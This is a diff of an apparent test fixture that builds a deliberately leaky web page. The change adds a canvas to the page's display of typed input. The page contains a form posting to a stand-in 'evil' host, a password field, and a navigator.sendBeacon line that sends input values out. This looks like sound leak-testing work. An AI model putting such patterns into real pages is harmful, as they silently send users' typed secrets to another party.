@@ -35,8 +35,9 @@ SEND = "navigator.sendBeacon('/in', this.value)"
 
 
 def home(evil: Web) -> str:
-    """Shows what is typed in all spellings: as text, title, names, options, a dialog, storage, and drawn."""
-    shown = "".join(f"<p>{{{name}}}</p><button aria-label='{{{name}}}'>b</button>" for name in ("v", "r", "b", "h"))
+    """Shows what is typed in all spellings: as text, title, names, options, a canvas, a dialog, storage, and drawn."""
+    shown = "<canvas width=200 height=90 aria-label='{v}'></canvas>"
+    shown += "".join(f"<p>{{{name}}}</p><button aria-label='{{{name}}}'>b</button>" for name in ("v", "r", "b", "h"))
     return f"""<title>Home</title>{NO_CARET}<form method=post action="{evil.url("/in")}"><input aria-label=Leaky></form>
         <form method=post action=/in><input aria-label=Q id=q name=p type=password></form><p id=o></p><pre id=all></pre>
         <a href=/key id=key>Key</a><script>
